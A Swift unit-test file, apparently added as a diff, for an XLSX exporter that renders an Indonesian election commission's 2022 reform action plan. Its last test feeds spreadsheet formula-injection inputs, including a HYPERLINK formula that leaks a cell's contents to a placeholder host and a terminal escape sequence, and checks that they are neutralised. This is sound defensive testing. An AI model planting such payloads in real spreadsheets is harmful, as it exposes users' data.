@@ -1,0 +1,127 @@
+import Foundation
+import XCTest
+import PlanDocuments
+import PlanExport
+import PlanModel
+
+/// The LAMPIRAN workbook of the real plan, read back from its XML.
+final class LampiranWorkbookTests: XCTestCase {
+    /// The sheet's first body row (0-based): heading 0–3, title 5, header 7–8, numbering 9.
+    let body = 10
+
+    func workbook(paper: Paper = .f4, marks: [MonthSet]? = nil) throws -> (Plan, Workbook) {
+        let plan = try RealPlan.load()
+        let data = try XlsxExporter().produce(ExportRequest(plan: plan, marks: marks, paper: paper))
+        return (plan, try Workbook(data: data))
+    }
+
+    func testEveryAreaKegiatanAndSubKegiatanIsMergedDownItsRows() throws {
+        let (plan, book) = try workbook()
+        var expected: Set<String> = []
+        for (column, runs) in [(0, RealPlan.areaRuns(plan)), (1, RealPlan.areaRuns(plan)),
+                               (2, RealPlan.kegiatanRuns(plan)), (3, RealPlan.subRuns(plan))] {
+            for run in runs where run.count > 1 {
+                expected.insert(Workbook.ref(column, body + run.first) + ":" + Workbook.ref(column, body + run.first + run.count - 1))
+            }
+            for run in runs {
+                let text = book.cells[Workbook.ref(column, body + run.first)]
+                let row = plan.rows[run.first]
+                XCTAssertEqual(text, [String(row.areaNumber), row.areaName, row.kegiatan, row.subKegiatan][column])
+                // Covered cells hold no text of their own.
+                for offset in 1..<max(run.count, 1) { XCTAssertNil(book.cells[Workbook.ref(column, body + run.first + offset)]) }
+            }
+        }
+        let header: Set<String> = ["A8:A9", "B8:B9", "C8:C9", "D8:D9", "E8:E9", "F8:Q8", "R8:R9"]
+        let bodyMerges = book.merges.filter { ref in
+            guard let row = Int(ref.split(separator: ":")[0].dropFirst()) else { return false }
+            return row > body && row <= body + plan.rows.count
+        }
+        XCTAssertEqual(bodyMerges, expected, "exactly the merges of the areas, kegiatan and sub kegiatan")
+        XCTAssertTrue(header.isSubset(of: book.merges))
+        XCTAssertEqual(RealPlan.areaRuns(plan).count, 8)
+        XCTAssertEqual(RealPlan.kegiatanRuns(plan).count, 32)
+        XCTAssertGreaterThan(expected.count, 16 + 20, "the real plan merges every area and most kegiatan")
+    }
+
+    func testKnownRowsHaveTheirMarksAtTheirMonthsAndNowhereElse() throws {
+        let (plan, book) = try workbook()
+        XCTAssertGreaterThanOrEqual(RealPlan.knownMonths.count, 15)
+        for (id, months) in RealPlan.knownMonths {
+            let row = try XCTUnwrap(plan.rowIndex(of: id))
+            let marked = (0..<12).filter { book.cells[Workbook.ref(5 + $0, body + row)] == "√" }.map { Month.labels[$0] }
+            XCTAssertEqual(marked.joined(separator: " "), months, "\(id)")
+            XCTAssertEqual(book.cells[Workbook.ref(4, body + row)], plan.rows[row].indikator.isEmpty ? nil : plan.rows[row].indikator)
+        }
+        let marks = book.cells.filter { $0.value == "√" }.count
+        XCTAssertEqual(marks, 806, "every scheduled month of the plan, no more")
+    }
+
+    func testTheHeaderIsTheSourcesEighteenColumnsAndItsNumbering() throws {
+        let (_, book) = try workbook()
+        XCTAssertEqual((0..<5).map { book.cells[Workbook.ref($0, 7)] ?? "" } + [book.cells["F8"] ?? "", book.cells["R8"] ?? ""],
+                       ["NO.", "AREA PERUBAHAN", "KEGIATAN", "SUB KEGIATAN", "INDIKATOR KEBERHASILAN", "PELAKSANAAN (BULAN)", "KET."])
+        XCTAssertEqual((5..<17).map { book.cells[Workbook.ref($0, 8)] ?? "" }, Month.labels)
+        XCTAssertEqual((0..<18).map { book.cells[Workbook.ref($0, 9)] ?? "" }, (1...18).map(String.init))
+    }
+
+    func testTheHeadingTitleAndClosingBlockComeFromTheDocumentFields() throws {
+        let (plan, book) = try workbook()
+        XCTAssertEqual(book.cells["F1"], "LAMPIRAN KEPUTUSAN KOMISI PEMILIHAN UMUM KABUPATEN SORONG SELATAN")
+        XCTAssertEqual(book.cells["F2"], "NOMOR : 3/ORT.07/9204/2022")
+        XCTAssertEqual(book.cells["F3"], "TENTANG")
+        XCTAssertEqual(book.cells["F4"],
+                       "RENCANA AKSI REFORMASI BIROKRASI DI LINGKUNGAN KOMISI PEMILIHAN UMUM KABUPATEN SORONG SELATAN TAHUN 2022")
+        XCTAssertEqual(book.cells["A6"],
+                       "RENCANA AKSI REFORMASI BIROKRASI DI LINGKUNGAN SEKRETARIAT KOMISI PEMILIHAN UMUM KABUPATEN SORONG SELATAN TAHUN 2022")
+        XCTAssertTrue(book.merges.isSuperset(of: ["F1:R1", "F4:R4", "A6:R6"]))
+        let after = body + plan.rows.count + 1
+        let closing = (after..<after + 10).compactMap { book.cells[Workbook.ref(10, $0)] }
+        XCTAssertEqual(closing, ["Ditetapkan di : Teminabuan", "Pada tanggal : 26 Januari 2022", "KETUA KOMISI PEMILIHAN UMUM",
+                                 "KABUPATEN SORONG SELATAN", "ESTER HOMER"])
+    }
+
+    func testPrintSetupIsLandscapeFittedToOnePageWideWithTheHeaderRepeated() throws {
+        for (paper, index) in [(Paper.f4, "14"), (.a4, "9")] {
+            let (_, book) = try workbook(paper: paper)
+            let setup = try XCTUnwrap(Workbook.matches(#"<pageSetup [^>]*/>"#, in: book.sheet).first?[0])
+            XCTAssertTrue(setup.contains(#"paperSize="\#(index)""#), setup)
+            XCTAssertTrue(setup.contains(#"orientation="landscape""#), setup)
+            XCTAssertTrue(setup.contains(#"fitToHeight="0""#), setup)
+            XCTAssertFalse(setup.contains("fitToWidth") && !setup.contains(#"fitToWidth="1""#), setup)
+            XCTAssertTrue(book.sheet.contains(#"<pageSetUpPr fitToPage="1"/>"#))
+            XCTAssertTrue(book.workbook.contains(#"<definedName name="_xlnm.Print_Titles" localSheetId="0">LAMPIRAN!$8:$10</definedName>"#),
+                          book.workbook)
+            XCTAssertTrue(book.sheet.contains(#"<pane ySplit="10" topLeftCell="A11" activePane="bottomLeft" state="frozen"/>"#))
+            XCTAssertTrue(book.sheet.contains("&amp;P"), "page numbers in the footer")
+            XCTAssertTrue(book.styles.contains(#"<name val="Bookman Old Style"/>"#))
+            XCTAssertFalse(book.styles.contains(#"<name val="Calibri"/>"#) && book.styles.components(separatedBy: "Bookman").count < 3)
+        }
+    }
+
+    func testCurrentMarksAreShownAndTextIsNeverAFormula() throws {
+        let plan = try RealPlan.load()
+        var marks = plan.baselineMarks
+        let row = try XCTUnwrap(plan.rowIndex(of: "1.1.1.1"))
+        marks[row].insert(.feb)
+        marks[row].remove(.jan)
+        let (_, book) = try workbook(marks: marks)
+        XCTAssertNil(book.cells[Workbook.ref(5, body + row)])
+        XCTAssertEqual(book.cells[Workbook.ref(6, body + row)], "√")
+
+        let hostile = Plan(document: DocumentInfo(title: "=1+1", year: 2022), areas: [
+            ChangeArea(number: 1, name: "=HYPERLINK(\"http://x/?\"&A1,\"click\")", kegiatan: [
+                Kegiatan(title: "+SUM(1)", subKegiatan: [SubKegiatan(title: "@cmd", indicators: [
+                    Indicator(text: "-2+3\u{1B}]0;pwned\u{07}", months: MonthSet([.jan]), ket: "\tx"),
+                ])]),
+            ]),
+        ])
+        let data = try XlsxExporter().produce(ExportRequest(plan: hostile, marks: nil))
+        let hostileBook = try Workbook(data: data)
+        XCTAssertFalse(hostileBook.sheet.contains("<f>"), "no formula cells")
+        XCTAssertEqual(hostileBook.cells["B11"], "'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "neutralised (SpreadsheetText)")
+        XCTAssertEqual(hostileBook.cells["C11"], "'+SUM(1)")
+        XCTAssertEqual(hostileBook.cells["D11"], "'@cmd")
+        XCTAssertEqual(hostileBook.cells["E11"], "'-2+3\\u{1B}]0;pwned\\u{7}", "controls shown, not kept")
+        XCTAssertEqual(hostileBook.cells["R11"], "'\tx")
+    }
+}
